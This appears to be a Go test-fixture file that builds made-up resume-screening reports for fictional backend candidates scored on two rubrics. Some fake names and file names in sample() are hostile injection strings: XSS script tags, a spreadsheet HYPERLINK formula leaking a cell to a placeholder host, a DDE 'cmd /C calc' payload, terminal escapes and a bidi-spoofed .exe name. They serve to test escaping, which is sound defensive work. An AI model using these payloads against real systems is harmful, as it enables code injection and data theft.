package report

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math"
	"math/rand"
	"strings"
)

// sample is a made-up run of two rubrics over people who do not exist: all bands, apart, no resume, not read, read in
// part, capped, thin, flagged, seen before, the same person twice, wide characters, and names that attack every format.
func sample() *Report {
	r := made(14, 7)
	at := func(i int) *Resume { return &r.Resumes[i] }
	at(1).Name = "李 雨涵 👩‍💻"
	at(1).Flags = []Flag{{Kind: "hidden-text", Says: "11 white words on page 2, scored 0; often a template", Page: 2}}
	at(1).Checks[0].State = "found"
	for i := range at(1).Fits {
		at(1).Fits[i].WithHidden = at(1).Fits[i].Score + 4.2
	}
	at(2).PagesRead, at(2).Pages = 2, 3
	for i := range at(2).Fits {
		f := &at(2).Fits[i]
		f.Most = math.Min(100, f.Least+13)
		f.Criteria[len(f.Criteria)-2].State = "could-not-read"
	}
	capped := at(3)
	for i := range capped.Fits {
		f := &capped.Fits[i]
		for j := range f.Criteria {
			if c := &f.Criteria[j]; c.ID == "databases" {
				f.Score -= c.Points
				c.Points, c.State, c.Hits, c.Shown, c.Must = 0, "not-shown", nil, 0, true
			}
		}
		f.Score = math.Round(f.Score*1000) / 1000
		f.Least, f.Most, f.AsSeen = f.Score, f.Score, f.Score
		f.Uncapped, f.Band = "good", "possible"
		f.Cap = "no database is shown; the gate is yours: " + f.Rubric + ".yaml:21"
	}
	at(4).Since = &Since{State: "again", Score: 64, File: "last-week/wilk-old.pdf", Note: "asked for remote work; call on Tuesday", Decision: "talk first"}
	for i := range r.Resumes {
		if at(i).Since == nil {
			at(i).Since = &Since{State: "new"}
		}
	}
	at(5).Thin = "9 lines, 1 role"
	at(6).Name = "<script>alert('x')</script><img src=x onerror=alert(1)>"
	at(6).File = "in/\"><script>alert(2)</script>.pdf"
	at(7).Name = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"
	at(7).File = "in/@SUM(1+1)*cmd|' /C calc'!A0.docx"
	at(8).Name = "\x1b[31mRed\x1b]0;title\x07 Person\x9b2J"
	at(9).Name = "evil\u202egpj.exe\u202c Normal\u200b Name"
	at(10).Name = strings.Repeat("Wolfeschlegelstein ", 216)
	at(10).File = "in/" + strings.Repeat("long-", 800) + ".pdf"
	at(11).Name = "| pipe | `code` [link](http://example.invalid) **bold** <b> &amp; \\"
	for i := range at(12).Fits {
		at(12).Fits[i].State, at(12).Fits[i].Reason = "apart", "frontend: 6 of 6 roles (p1:12…)"
	}
	at(12).Stack.Is = "frontend"
	at(13).Name, at(13).File = "", "in/resume_final(3).txt"
	at(13).Pages, at(13).PagesRead = 0, 0
	r.Groups = [][]string{{at(0).ID, at(5).ID}}
	r.Resumes = append(r.Resumes,
		Resume{ID: "c-90aa01", File: "in/job-ad.docx", SHA256: sum("ad"), State: StateNotAResume, Reason: "a job advertisement: \"we are looking for\", line 3", Format: "docx"},
		Resume{ID: "c-90aa02", File: "in/scan_0231.pdf", SHA256: sum("scan"), State: StateUnreadable, Reason: "no text layer on 2 pages; open it, or screen with --ocr", Format: "pdf", Pages: 2},
	)
	recount(r)
	Arrange(r)
	return r
}

// pool is a made-up run over n people, without anything odd.
func pool(n int) *Report {
	r := made(n, 1)
	recount(r)
	Arrange(r)
	return r
}

var madeRubrics = []struct {
	name, title string
	criteria    []Criterion
}{
	{"backend-developer", "Backend developer", []Criterion{
		{ID: "languages", Title: "A server-side language", Weight: 12, Enough: 1, Must: true},
		{ID: "databases", Title: "Databases", Weight: 11, Enough: 2, Must: true},
		{ID: "apis", Title: "APIs", Weight: 11, Enough: 2},
		{ID: "features", Title: "Features and application logic", Weight: 10, Enough: 3},
		{ID: "frameworks", Title: "Server frameworks", Weight: 8, Enough: 1},
		{ID: "debugging", Title: "Finding and fixing faults", Weight: 8, Enough: 2},
		{ID: "testing", Title: "Testing", Weight: 10, Enough: 2, Ask: "How do you know that a change breaks nothing?"},
		{ID: "security", Title: "Security", Weight: 9, Enough: 2},
		{ID: "performance", Title: "Performance", Weight: 8, Enough: 2},
		{ID: "platform", Title: "Servers, cloud, pipelines", Weight: 11, Enough: 3},
		{ID: "education", Title: "Education or equal", Weight: 2, Enough: 1},
	}},
	{"backend-engineer", "Backend engineer", []Criterion{
		{ID: "architecture", Title: "Architecture and structure", Weight: 16, Enough: 3, Must: true, Ask: "Which structural decision of yours would you take back, and why?"},
		{ID: "distributed", Title: "Distributed systems", Weight: 11, Enough: 3},
		{ID: "performance", Title: "Performance and scale", Weight: 11, Enough: 2},
		{ID: "databases", Title: "Databases", Weight: 10, Enough: 2, Must: true},
		{ID: "apis", Title: "APIs", Weight: 9, Enough: 2},
		{ID: "languages", Title: "Several server-side languages", Weight: 8, Enough: 2, Must: true},
		{ID: "debt", Title: "Technical debt", Weight: 8, Enough: 2},
		{ID: "leads", Title: "Leads teams", Weight: 7, Enough: 2},
		{ID: "security", Title: "Security", Weight: 7, Enough: 2},
		{ID: "platform", Title: "Cloud and pipelines", Weight: 7, Enough: 3},
		{ID: "testing", Title: "Testing", Weight: 5, Enough: 1},
		{ID: "education", Title: "Education or equal", Weight: 1, Enough: 1},
	}},
}

// madeSays is, for each criterion, sentences with the term that counts in them.
var madeSays = map[string][][2]string{
	"languages":    {{"Go", "Wrote the pricing engine in Go and kept its latency flat"}, {"Java", "Maintained the payroll services in Java for 40,000 employees"}, {"Python", "Built the import jobs in Python and their dashboards"}},
	"databases":    {{"PostgreSQL", "Moved the ledger to PostgreSQL without an hour of downtime"}, {"~tune ... queries", "Tuned the 30 slowest queries of the order tables"}, {"Redis", "Put Redis before the catalogue, hit rate 94 %"}},
	"apis":         {{"gRPC", "Replaced the file exchange by gRPC between 7 services"}, {"REST", "Designed the REST API that 12 partners use"}, {"OpenAPI", "Described every endpoint in OpenAPI and generated the clients"}},
	"features":     {{"feature-work", "Shipped 14 features of claims intake from sketch to launch"}, {"application-logic", "Wrote the rules of the discount calculation"}},
	"frameworks":   {{"Spring Boot", "Started the booking service on Spring Boot"}, {"Django", "Extended the editorial site in Django"}},
	"debugging":    {{"~trace ... leak", "Traced a memory leak through three services to one cache"}, {"~fix ... bugs", "Fixed 120 bugs of the returns process in two quarters"}},
	"testing":      {{"contract test", "Introduced contract tests between shop and warehouse"}, {"JUnit", "Covered the tax rules with JUnit, 400 cases"}},
	"security":     {{"OAuth", "Put OAuth in place for all internal tools"}, {"~encrypt", "Encrypted personal data at rest and rotated the keys"}},
	"performance":  {{"~cut ... latency", "Cut p99 latency from 900 to 120 ms at 12k requests/s"}, {"caching", "Added caching to the search pages, load down by 60 %"}},
	"platform":     {{"Kubernetes", "Runs 9 services on Kubernetes with a team of three"}, {"Terraform", "Wrote the Terraform modules for two regions"}, {"AWS", "Moved the batch jobs to AWS"}, {"CI/CD", "Brought CI/CD from an hour down to nine minutes"}},
	"education":    {{"BSc Computer Science", "BSc Computer Science"}},
	"architecture": {{"~split ... monolith", "Split the billing monolith into 9 services behind one gateway"}, {"sets-patterns", "Set the service template that other teams start from"}, {"system-wide", "Designed the event flow of the whole order platform"}},
	"distributed":  {{"failover", "Ran a failover drill every quarter, recovery in 4 minutes"}, {"Kafka", "Introduced Kafka between orders and stock"}, {"high availability", "Designed high availability across 3 regions"}},
	"debt":         {{"technical-debt", "Retired the batch importer of 2011 and its 14 cron jobs"}, {"~pay ... debt", "Paid down two years of technical debt in the checkout"}},
	"leads":        {{"leads-teams", "Led 6 engineers through the move to services"}, {"~run ... hiring", "Ran the hiring of the platform team"}},
}

var (
	madeFirst = []string{"Amara", "Jonas", "Priya", "Tomasz", "Mei", "Sara", "Dele", "Lukas", "Ana", "Ivo", "Noor", "Teo", "Yara", "Bo"}
	madeLast  = []string{"Oseiwa", "Lindquister", "Ramanathi", "Wilkowicz", "Tanakado", "Haddadin", "Okaforth", "Brandtner", "Reyesto", "Kovanec", "Vandermoor", "Salgueira"}
	madeFirms = []string{"Fennec Freight", "Cobalt Ledger", "Juniper Booking", "Harbour Insurance", "Quill & Post", "Northwind Grocers"}
)

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// made writes a run over n people; the earlier ones show more.
func made(n int, seed int64) *Report {
	r := &Report{Schema: Schema, AsOf: "2026-11-21", Tool: Tool{Version: "1.0.0", Reader: "4"}, Vocabulary: Hash{SHA256: sum("vocabulary")}}
	for _, m := range madeRubrics {
		r.Rubrics = append(r.Rubrics, Rubric{Name: m.name, Title: m.title, SHA256: sum(m.name), Bands: Bands{75, 60, 40},
			Lean: strings.TrimPrefix(m.name, "backend-")})
	}
	rnd := rand.New(rand.NewSource(seed))
	for i := range n {
		r.Resumes = append(r.Resumes, madePerson(rnd, i, 1-0.85*float64(i)/float64(n)))
	}
	return r
}

// madePerson is one person who shows about the given share of everything.
func madePerson(rnd *rand.Rand, i int, share float64) Resume {
	first, last := madeFirst[i%len(madeFirst)], madeLast[(i*5+i/14)%len(madeLast)]
	name := first + " " + last
	if i >= len(madeFirst) {
		name += fmt.Sprint(" ", i)
	}
	key := fmt.Sprint("person ", i)
	res := Resume{
		ID: "c-" + sum(key)[:6], File: fmt.Sprintf("in/%s-%03d.pdf", strings.ToLower(last), i), SHA256: sum(key + " bytes"), State: StateRead,
		Name: name, Format: "pdf", Pages: 2, PagesRead: 2, Language: "en",
		Contact: &Contact{Email: strings.ToLower(first) + "@example.org", Phone: "+1 555 0100", Location: "Springfield", Links: []string{"https://example.org/" + strings.ToLower(last)}},
		Checks:  []Check{{"background", "clear"}, {"covered", "clear"}, {"tiny", "clear"}, {"remapped", "not-checked"}},
	}
	w := &madeText{res: &res}
	w.add(name)
	w.add("Summary")
	w.add("Backend person, team player, likes systems that are boring to run")
	w.add("Experience")
	year := 2026
	hits := map[string][]Hit{}
	for k := range 3 {
		from := year - 1 - rnd.Intn(4)
		role := Role{Kind: "job", Title: []string{"Senior Engineer", "Software Engineer", "Developer"}[k], Employer: madeFirms[rnd.Intn(len(madeFirms))],
			Start: fmt.Sprintf("%d-%02d", from, 1+rnd.Intn(12)), End: fmt.Sprintf("%d-%02d", year, 1+rnd.Intn(11)), Open: k == 0, Months: (year - from) * 12}
		if role.Open {
			role.End = ""
		}
		res.Months += role.Months
		year = from
		line := w.add(fmt.Sprintf("%s, %s, %s", role.Title, role.Employer, years(&role)))
		role.Page, role.Line = line.Page, line.Line
		for _, m := range madeRubrics[1].criteria {
			madeHits(rnd, w, hits, m.ID, share, k, &role)
		}
		madeHits(rnd, w, hits, "features", share, k, &role)
		madeHits(rnd, w, hits, "debugging", share, k, &role)
		madeHits(rnd, w, hits, "frameworks", share, k, &role)
		res.Roles = append(res.Roles, role)
	}
	w.add("Skills")
	skills := w.add("Go, Rust (learning), OAuth, Terraform, Spring 2021")
	listed := Hit{Term: "Terraform", Grade: "listed", Page: skills.Page, Line: skills.Line, Start: skills.Start + 26, End: skills.Start + 35, Quote: skills.Text, Role: -1}
	hits["platform"] = append(hits["platform"], listed)
	res.Stack = Stack{Is: []string{"backend", "backend", "full-stack", "undetermined"}[rnd.Intn(4)]}
	res.Lean = Lean{Is: "either", Developer: 1 + rnd.Intn(4), Engineer: rnd.Intn(7)}
	res.Lean.Score = math.Round(1000*float64(res.Lean.Engineer-res.Lean.Developer)/float64(res.Lean.Engineer+res.Lean.Developer)) / 1000
	if res.Lean.Score > 0.25 {
		res.Lean.Is = "engineer"
	} else if res.Lean.Score < -0.25 {
		res.Lean.Is = "developer"
	}
	for _, id := range []string{"apis", "databases"} {
		for _, h := range hits[id] {
			h.Side = "backend"
			res.Stack.Hits = append(res.Stack.Hits, h)
		}
	}
	for _, h := range hits["architecture"] {
		h.Side, h.Signal = "engineer", "architecture"
		res.Lean.Hits = append(res.Lean.Hits, h)
	}
	if len(hits["databases"]) > 1 {
		res.Specialities = []Label{{Name: "database", Lines: len(hits["databases"])}}
	}
	for m := range madeRubrics {
		res.Fits = append(res.Fits, madeFit(m, hits, skills))
	}
	return res
}

// madeText writes the resume's lines and knows where each starts.
type madeText struct {
	res    *Resume
	offset int
}

func (w *madeText) add(s string) Line {
	n := len(w.res.Lines)
	l := Line{Page: 1 + n/24, Line: 1 + n%24, Start: w.offset, Text: s}
	w.offset += len(s) + 1
	w.res.Lines = append(w.res.Lines, l)
	return l
}

func madeHits(rnd *rand.Rand, w *madeText, hits map[string][]Hit, id string, share float64, role int, in *Role) {
	for _, says := range madeSays[id] {
		if rnd.Float64() > share*0.5 {
			continue
		}
		l := w.add(says[1])
		h := Hit{Term: says[0], Grade: "used", Page: l.Page, Line: l.Line, Start: l.Start, End: l.Start + len(l.Text), Quote: l.Text, Role: role, Source: "rubric.yaml:14"}
		if i := strings.Index(l.Text, says[0]); i >= 0 {
			h.Start, h.End = l.Start+i, l.Start+i+len(says[0])
			in.Terms = append(in.Terms, says[0])
		}
		hits[id] = append(hits[id], h)
	}
}

func madeFit(m int, hits map[string][]Hit, skills Line) Fit {
	rubric := madeRubrics[m]
	f := Fit{Rubric: rubric.name, State: "scored", Possible: 100}
	points := 0.0
	for k, c := range rubric.criteria {
		c.Source = fmt.Sprintf("%s.yaml:%d", rubric.name, 12+7*k)
		c.Why = "A rule of the sample."
		c.Hits = append([]Hit(nil), hits[c.ID]...)
		for _, h := range distinct(c.Hits) {
			c.Shown += gradeWorth(h.Grade)
		}
		c.Shown = math.Min(c.Shown, c.Enough)
		c.Points = math.Round(1000*c.Weight*c.Shown/c.Enough) / 1000
		switch {
		case len(c.Hits) == 0:
			c.State = "not-shown"
			f.Ask = append(f.Ask, "Nothing about "+strings.ToLower(c.Title)+" is mentioned: what have you done there?")
			f.WouldAdd = append(f.WouldAdd, Change{Criterion: c.ID, Says: strings.ToLower(c.Title) + " in a role", Points: c.Weight / c.Enough})
		case c.Shown < c.Enough:
			c.State = "partly-met"
		default:
			c.State = "met"
		}
		points += c.Points
		f.Criteria = append(f.Criteria, c)
	}
	f.Score = math.Round(points*1000) / 1000
	f.Least, f.Most, f.AsSeen, f.Listed = f.Score, f.Score, f.Score, 1.2
	f.Band = "low"
	for _, b := range []struct {
		name string
		from float64
	}{{"possible", 40}, {"good", 60}, {"strong", 75}} {
		if f.Score >= b.from {
			f.Band = b.name
		}
	}
	f.NotCounted = []Hit{
		{Term: "Rust", Grade: "negated", Page: skills.Page, Line: skills.Line, Start: skills.Start + 4, End: skills.Start + 8, Quote: skills.Text, Role: -1, Why: "an aim: \"learning\""},
		{Term: "Spring", Grade: "ambiguous", Page: skills.Page, Line: skills.Line, Start: skills.Start + 37, End: skills.Start + 43, Quote: skills.Text, Role: -1, Why: "a season: \"Spring 2021\""},
		{Term: "team player", Grade: "claimed", Page: 1, Line: 3, Quote: "Backend person, team player, likes systems that are boring to run", Role: -1, Why: "a claim, not something done"},
	}
	f.WouldCost = []Change{{Criterion: rubric.criteria[0].ID, Says: "without the strongest line", Points: -4, Band: "good"}}
	if len(f.Ask) == 0 {
		f.Ask = []string{"Which of your decisions would you take back, and why?"}
	}
	return f
}

// recount works the counts of a report out from its records.
func recount(r *Report) {
	var s sums
	for i := range r.Resumes {
		s.add(&r.Resumes[i])
	}
	s.set(r)
}
